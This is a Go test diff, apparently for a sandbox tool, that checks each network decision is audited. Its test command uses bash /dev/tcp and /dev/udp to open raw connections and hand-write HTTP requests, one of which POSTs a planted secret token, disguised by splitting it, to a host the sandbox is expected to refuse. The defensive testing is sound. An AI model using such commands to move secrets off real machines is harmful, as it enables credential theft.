@@ -3,6 +3,8 @@ package hostile
 import (
 	"encoding/json"
 	"fmt"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"strings"
@@ -118,8 +120,23 @@ func TestA2NoSecretInRecords(t *testing.T) {
 // stands in the log once it was taken.
 func TestA1EveryDecision(t *testing.T) {
 	h := newHost(t)
-	command := []string{"/bin/bash", "-c", "echo x > new; getent hosts refused-name.test; (echo > /dev/tcp/192.0.2.7/81); (echo > /dev/udp/192.0.2.8/82); yes"}
-	x := h.run(func(o *carboy.RunOptions) { o.Limits.Output = mib }, command...)
+	web := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
+	defer web.Close()
+	_, port, _ := strings.Cut(web.Listener.Addr().String(), ":")
+	at := "host.carboy.internal:" + port
+	hidden := filepath.Join(t.TempDir(), "token")
+	if err := os.WriteFile(hidden, []byte("zq7x-hidden-vk93\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	ask := func(method, path, body string) string {
+		return fmt.Sprintf(`(exec 3<>/dev/tcp/host.carboy.internal/%s; b="%s"; printf '%s %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %%d\r\nConnection: close\r\n\r\n%%s' ${#b} "$b" >&3; cat <&3); `, port, body, method, path, at)
+	}
+	command := []string{"/bin/bash", "-c", "echo x > new; getent hosts refused-name.test; (echo > /dev/tcp/192.0.2.7/81); (echo > /dev/udp/192.0.2.8/82); " +
+		ask("GET", "/a/x", "") + ask("GET", "/b", "") + ask("POST", "/a", `$(printf %s zq7x-hid den-vk93)`) + "yes"}
+	x := h.run(func(o *carboy.RunOptions) {
+		o.Limits.Output = mib
+		o.AllowPrivate, o.Secrets = []string{at + "/a"}, []string{hidden}
+	}, command...)
 	if x.rec == nil || x.rec.Exit.Reason != receipt.Output {
 		t.Fatalf("the run ended with %+v, %v: %s", exitOf(x.rec), x.err, x.msg)
 	}
@@ -161,6 +178,10 @@ func TestA1EveryDecision(t *testing.T) {
 		{audit.Resolve, id, audit.Refused, "bottle", "refused-name.test"},
 		{audit.Connect, id, audit.Refused, "bottle", "192.0.2.7:81"},
 		{audit.Connect, id, audit.Refused, "bottle", "192.0.2.8:82"},
+		{audit.Request, id, audit.Refused, "bottle", "GET " + at + "/b"},
+		{audit.Request, id, audit.Refused, "bottle", "POST " + at + "/a"},
+		{audit.Request, id, audit.Allowed, "bottle", at},
+		{audit.Found, id, audit.Refused, "bottle", at},
 		{audit.LimitHit, id, audit.Noted, "carboy", "output"},
 		{audit.RunFinished, id, audit.Noted, "carboy", "output"},
 		{audit.Land, id, audit.Refused, me, h.ws},
